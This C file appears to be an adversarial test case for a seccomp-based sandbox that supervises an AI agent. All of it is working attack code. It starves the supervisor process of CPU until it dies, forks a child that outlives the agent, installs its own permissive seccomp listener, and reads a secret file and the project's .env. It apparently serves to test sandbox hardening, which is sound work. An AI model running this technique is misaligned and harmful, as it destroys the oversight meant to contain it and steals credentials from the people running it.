// technique: kill the supervisor with prlimit64(getppid(), RLIMIT_CPU {1,1}) and a flood of trapped opens, then install a NEW_LISTENER filter of our own that answers CONTINUE and read the secrets
// timeout: 40
// needs: supervisor
#include "adv.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <time.h>

static int install_listener(void) {
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = {sizeof f / sizeof f[0], f};
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
}

// serve answers CONTINUE to everything our own listener receives.
static void *serve(void *arg) {
	int fd = *(int *)arg;
	for (;;) {
		struct seccomp_notif n;
		memset(&n, 0, sizeof n);
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &n) < 0) continue;
		struct seccomp_notif_resp r = {.id = n.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
		ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &r);
	}
	return NULL;
}

static void *flood(void *arg) {
	(void)arg;
	for (;;) close(open("/nonexistent/aixadv-flood", O_RDONLY));
	return NULL;
}

int main(void) {
	char secret[1024], dotenv[1024];
	snprintf(secret, sizeof secret, "%s", adv("SECRET"));
	snprintf(dotenv, sizeof dotenv, "%s/.env", adv("PROJECT"));
	pid_t sup = getppid();
	int fd = install_listener();
	printf("listener while the supervisor lives: %d %s\n", fd, fd < 0 ? strerror(errno) : "INSTALLED");
	if (fd >= 0) close(fd);
	fflush(stdout);
	pid_t child = fork();
	if (child == 0) {
		// The agent itself dies with the supervisor (PDEATHSIG); its child does not.
		for (int i = 0; i < 100 && (kill(sup, 0) == 0 || errno != ESRCH); i++) usleep(50000);
		if (kill(sup, 0) == 0 || errno != ESRCH) { printf("supervisor still alive\n"); fflush(stdout); _exit(0); }
		printf("supervisor gone\n");
		fd = install_listener();
		printf("listener after its death: %d %s\n", fd, fd < 0 ? strerror(errno) : "INSTALLED");
		fflush(stdout);
		if (fd < 0) _exit(0);
		pthread_t t;
		pthread_create(&t, NULL, serve, &fd);
		try_open("secret after takeover", AT_FDCWD, secret, O_RDONLY);
		try_open(".env after takeover", AT_FDCWD, dotenv, O_RDONLY);
		fflush(stdout);
		_exit(0);
	}
	struct rlimit cpu = {1, 1};
	long r = syscall(SYS_prlimit64, sup, RLIMIT_CPU, &cpu, NULL);
	printf("prlimit64(supervisor, RLIMIT_CPU, {1,1}): %ld %s\n", r, r ? strerror(errno) : "SET");
	fflush(stdout);
	pthread_t t[4];
	for (int i = 0; i < 4; i++) pthread_create(&t[i], NULL, flood, NULL);
	waitpid(child, NULL, 0);
	return 0;
}
